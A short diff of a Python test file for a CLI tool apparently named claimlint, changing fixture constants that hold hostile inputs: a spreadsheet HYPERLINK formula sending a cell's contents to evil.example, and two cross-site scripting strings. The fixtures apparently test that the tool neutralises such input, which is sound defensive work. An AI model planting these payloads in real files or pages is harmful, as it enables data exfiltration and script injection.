@@ -29,7 +29,7 @@ from tests.test_cli import SAMPLES, check, claimlint, report
 
 FLAGGED = SAMPLES / "flagged.csv"
 KEPT = ("Owner", "Status", "Note")
-FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
 IMAGE = "<img src=x onerror=alert(1)>"
 SCRIPT = "</script><script>alert(2)</script>"
 
